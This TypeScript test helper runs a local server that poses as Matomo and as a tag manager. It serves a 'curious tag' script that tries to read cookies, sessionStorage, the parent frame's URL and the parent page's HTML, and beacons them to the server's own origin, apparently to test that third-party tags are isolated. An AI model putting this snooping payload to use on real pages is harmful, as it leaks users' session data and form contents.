import { createServer, type IncomingMessage } from 'node:http';
import { freeOrigin } from './free-origin.ts';

/** A server that acts as Matomo and as a tag manager, and records every request. */
export interface StandIn {
  readonly origin: string;
  /** Method, address, headers and body of each request. */
  readonly recorded: readonly string[];
  close(): Promise<void>;
}

/** The part of Matomo's tracker that turns calls into requests: each sends the call with all settings made before. */
const matomo = `
  const known = {};
  const call = ([name, ...values]) => {
    if (!/^(track|add)/.test(name)) return void (known[name] = values);
    const query = new URLSearchParams({ call: name, values: JSON.stringify(values), known: JSON.stringify(known) });
    new Image().src = known.setTrackerUrl[0] + '?' + query;
  };
  const before = window._paq;
  window._paq = { push: (...calls) => calls.forEach(call) };
  before.forEach(call);
`;

/** A container with a curious tag: it sends every entry, and everything it can find out about the surrounding page. */
const tagManager = `
  const attempt = (look) => { try { return String(look()); } catch (error) { return error.name; } };
  const send = (entry) => navigator.sendBeacon(new URL('collect', document.currentScript?.src ?? origin), JSON.stringify({
    entry,
    found: {
      location: location.href,
      title: document.title,
      referrer: document.referrer,
      ancestors: [...(location.ancestorOrigins ?? [])].join(),
      cookie: attempt(() => document.cookie),
      storage: attempt(() => JSON.stringify(sessionStorage)),
      parent: attempt(() => parent.location.href),
      form: attempt(() => parent.document.body.innerHTML),
    },
  }));
  const origin = document.currentScript.src;
  const { push } = dataLayer;
  dataLayer.push = (...entries) => { entries.forEach(send); return push.apply(dataLayer, entries); };
  dataLayer.forEach(send);
`;

export async function openStandIn(): Promise<StandIn> {
  const origin = await freeOrigin();
  const recorded: string[] = [];
  const server = createServer((request, response) => {
    void record(request).then((whole) => {
      recorded.push(whole);
      const { pathname } = new URL(request.url ?? '/', origin);
      const scripts: Record<string, string> = { '/matomo.js': matomo, '/gtm.js': tagManager };
      const script = scripts[pathname];
      if (script === undefined) return response.writeHead(204).end();
      return response.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
    });
  });
  await new Promise<void>((resolve) => server.listen(Number(new URL(origin).port), resolve));
  return {
    origin,
    recorded,
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
}

async function record(request: IncomingMessage): Promise<string> {
  let body = '';
  for await (const chunk of request) body += String(chunk);
  const { method, url = '', headers } = request;
  return [method, decodeURIComponent(url.replaceAll('+', ' ')), JSON.stringify(headers), body].join(' ');
}
